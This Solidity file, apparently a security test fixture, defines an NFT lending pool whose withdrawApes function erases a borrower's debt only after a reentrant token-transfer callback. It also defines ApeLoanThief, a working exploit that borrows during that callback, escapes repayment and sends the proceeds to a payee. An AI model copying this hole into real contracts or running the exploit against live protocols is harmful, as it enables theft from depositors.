// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721Receiver} from "@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol";
import {ERC721Holder} from "@openzeppelin/contracts/token/ERC721/utils/ERC721Holder.sol";
import {WETH9} from "../props/WETH9.sol";

contract LoanApe is ERC721("Loan Ape", "LAPE") {
    address private immutable artist = msg.sender;
    uint256 public next = 1;

    function mint(address to, uint256 count) external {
        require(msg.sender == artist, "not the artist");
        for (uint256 i = 0; i < count; i++) _mint(to, next++);
    }
}

/// A maker that sells apes at the floor and takes them back for a little less.
contract ApeShop is ERC721Holder {
    LoanApe public immutable apes;
    uint256 public immutable floor;
    uint256[] private stock;

    constructor(LoanApe apes_, uint256 floor_) payable {
        (apes, floor) = (apes_, floor_);
    }

    function fill(uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) {
            apes.transferFrom(msg.sender, address(this), ids[i]);
            stock.push(ids[i]);
        }
    }

    function buy(uint256 count) external payable returns (uint256[] memory ids) {
        require(msg.value == floor * count, "wrong payment");
        ids = new uint256[](count);
        for (uint256 i = 0; i < count; i++) {
            ids[i] = stock[stock.length - 1];
            stock.pop();
            apes.transferFrom(address(this), msg.sender, ids[i]);
        }
    }

    function sell(uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) {
            apes.transferFrom(msg.sender, address(this), ids[i]);
            stock.push(ids[i]);
        }
        (bool ok,) = msg.sender.call{value: floor * ids.length * 98 / 100}("");
        require(ok, "not paid");
    }

    receive() external payable {}
}

/// Lends wrapped coins on apes. Whoever takes the last one back has his account closed, after the ape went out.
contract ApeLoans is ERC721Holder {
    WETH9 public immutable asset;
    LoanApe public immutable apes;
    uint256 public immutable floor;
    uint256 public totalDebt;
    mapping(address => uint256) public savings;
    mapping(address => uint256) public countOf;
    mapping(address => uint256) public debtOf;
    mapping(uint256 => address) public depositor;

    event Supply(address indexed who, uint256 amount);
    event DepositApe(address indexed who, uint256 indexed id);
    event WithdrawApe(address indexed who, uint256 indexed id, address to);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);
    event AccountClosed(address indexed who);

    constructor(WETH9 asset_, LoanApe apes_, uint256 floor_) {
        (asset, apes, floor) = (asset_, apes_, floor_);
    }

    function supply(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        savings[msg.sender] += amount;
        emit Supply(msg.sender, amount);
    }

    function depositApes(uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) {
            apes.transferFrom(msg.sender, address(this), ids[i]);
            depositor[ids[i]] = msg.sender;
            emit DepositApe(msg.sender, ids[i]);
        }
        countOf[msg.sender] += ids.length;
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        totalDebt += amount;
        require(debtOf[msg.sender] <= worth(countOf[msg.sender]), "too little collateral");
        asset.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        debtOf[msg.sender] -= amount;
        totalDebt -= amount;
        emit Repay(msg.sender, amount);
    }

    function withdrawApes(uint256[] calldata ids, address to) external {
        uint256 left = countOf[msg.sender] - ids.length;
        require(debtOf[msg.sender] <= worth(left), "too little collateral");
        for (uint256 i = 0; i < ids.length; i++) {
            require(depositor[ids[i]] == msg.sender, "not yours");
            depositor[ids[i]] = address(0);
            countOf[msg.sender]--;
            apes.safeTransferFrom(address(this), to, ids[i]);
            emit WithdrawApe(msg.sender, ids[i], to);
        }
        if (left == 0) {
            debtOf[msg.sender] = 0;
            emit AccountClosed(msg.sender);
        }
    }

    /// What was lent to nobody.
    function unowed(address[] calldata borrowers) external view returns (uint256 lost) {
        lost = totalDebt;
        for (uint256 i = 0; i < borrowers.length; i++) lost -= debtOf[borrowers[i]];
    }

    function worth(uint256 count) private view returns (uint256) {
        return count * floor * 60 / 100;
    }
}

/// Takes its only ape back, and borrows on others before its account is closed.
contract ApeLoanThief is IERC721Receiver {
    ApeLoans private loans;
    uint256[] private others;
    uint256 private amount;

    function run(ApeLoans loans_, ApeShop shop, uint256 count, address payable payee) external payable {
        (loans, amount) = (loans_, count * shop.floor() * 60 / 100);
        uint256[] memory first = shop.buy{value: shop.floor()}(1);
        others = shop.buy{value: shop.floor() * count}(count);
        loans_.apes().setApprovalForAll(address(loans_), true);
        loans_.apes().setApprovalForAll(address(shop), true);
        loans_.depositApes(first);
        loans_.withdrawApes(first, address(this));
        amount = 0;
        loans_.withdrawApes(others, address(this));
        shop.sell(others);
        shop.sell(first);
        WETH9 asset = loans_.asset();
        asset.transfer(payee, asset.balanceOf(address(this)));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (amount > 0) {
            loans.depositApes(others);
            loans.borrow(amount);
            amount = 0;
        }
        return this.onERC721Received.selector;
    }

    receive() external payable {}
}

/// Keeps a collector's apes at work: lends on them, and when it takes some back it sells each as it comes and pledges
/// another one in its place.
contract ApeDesk is IERC721Receiver {
    address private immutable owner = msg.sender;
    ApeLoans private immutable loans;
    ApeShop private immutable shop;
    bool private selling;
    uint256[] private fresh;

    constructor(ApeLoans loans_, ApeShop shop_) payable {
        (loans, shop) = (loans_, shop_);
        loans_.apes().setApprovalForAll(address(loans_), true);
        loans_.apes().setApprovalForAll(address(shop_), true);
    }

    function open(uint256 count, uint256 amount) external payable {
        require(msg.sender == owner, "not the owner");
        loans.depositApes(shop.buy{value: shop.floor() * count}(count));
        loans.borrow(amount);
        loans.asset().transfer(owner, amount);
    }

    function rotate(uint256[] calldata out, uint256 into) external payable {
        require(msg.sender == owner, "not the owner");
        if (into > 0) fresh = shop.buy{value: shop.floor() * into}(into);
        selling = true;
        loans.withdrawApes(out, address(this));
        selling = false;
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    function close(uint256[] calldata out, uint256 debt) external {
        require(msg.sender == owner, "not the owner");
        WETH9 asset = loans.asset();
        asset.transferFrom(owner, address(this), debt);
        asset.approve(address(loans), debt);
        loans.repay(debt);
        selling = true;
        loans.withdrawApes(out, address(this));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        if (selling) {
            uint256[] memory ids = new uint256[](1);
            ids[0] = id;
            shop.sell(ids);
            if (fresh.length > 0) {
                ids[0] = fresh[fresh.length - 1];
                fresh.pop();
                loans.depositApes(ids);
            }
        }
        return this.onERC721Received.selector;
    }

    receive() external payable {}
}
